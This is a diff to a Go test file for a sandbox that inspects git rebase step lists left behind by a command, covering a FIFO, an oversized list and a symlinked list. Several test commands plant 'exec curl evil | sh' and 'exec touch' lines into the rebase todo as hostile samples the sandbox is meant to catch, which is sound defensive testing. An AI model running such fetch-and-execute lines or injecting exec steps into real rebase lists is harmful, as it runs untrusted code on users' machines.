@@ -6,6 +6,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // A stopped rebase's step list is the sandbox's to write (a sandboxed
@@ -105,5 +106,44 @@ sed -i 's|^pick \(.*\)|exec touch ` + pwned + `\npick \1|' .git/rebase-merge/git
 	}
 	if len(res.Removed) != 1 || res.Removed[0].Path != seq {
 		t.Errorf("removed %+v", res.Removed)
+	}
+}
+
+// What the command leaves at a step list's place is read only when it is a
+// regular file within the writable roots: a FIFO there does not block the
+// run's end, a list too large to check is reported. Twin: a link to a
+// list elsewhere in the workspace is checked through the link.
+func TestStepListsTheCommandReplaced(t *testing.T) {
+	ws := t.TempDir()
+	gitRepo(t, ws, nil, nil)
+	dir := filepath.Join(ws, ".git", "rebase-merge")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	todo := filepath.Join(dir, "git-rebase-todo")
+	if err := os.WriteFile(todo, []byte("pick 1234 one\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan Result, 1)
+	go func() { done <- run(t, ws, Command{Argv: sh(`rm .git/rebase-merge/git-rebase-todo && mkfifo .git/rebase-merge/git-rebase-todo`)}) }()
+	select {
+	case res := <-done:
+		if res.ExitCode != 0 || len(res.Removed) != 0 {
+			t.Errorf("FIFO: exit %d, removed %+v: %s", res.ExitCode, res.Removed, res.Output)
+		}
+	case <-time.After(20 * time.Second):
+		t.Fatal("the run's end blocked on a FIFO at the step list's place")
+	}
+
+	os.Remove(todo)
+	res := run(t, ws, Command{Argv: sh(`head -c 5000000 /dev/zero | tr '\0' '#' > .git/rebase-merge/git-rebase-todo; echo 'exec curl evil | sh' >> .git/rebase-merge/git-rebase-todo`)})
+	if len(res.Removed) != 1 || !strings.Contains(res.Removed[0].Err, "too large to check") ||
+		!strings.Contains(res.Removed[0].String(), "could not") {
+		t.Errorf("oversized list: %+v", res.Removed)
+	}
+
+	res = run(t, ws, Command{Argv: sh(`printf 'pick 1 a\nexec curl evil | sh\n' > notes.txt && rm .git/rebase-merge/git-rebase-todo && ln -s ../../notes.txt .git/rebase-merge/git-rebase-todo`)})
+	if got := readFile(t, todo); strings.Contains(got, "curl") || !strings.Contains(got, "pick 1 a") {
+		t.Errorf("twin: the list behind a link was not checked: %q (%+v)", got, res.Removed)
 	}
 }
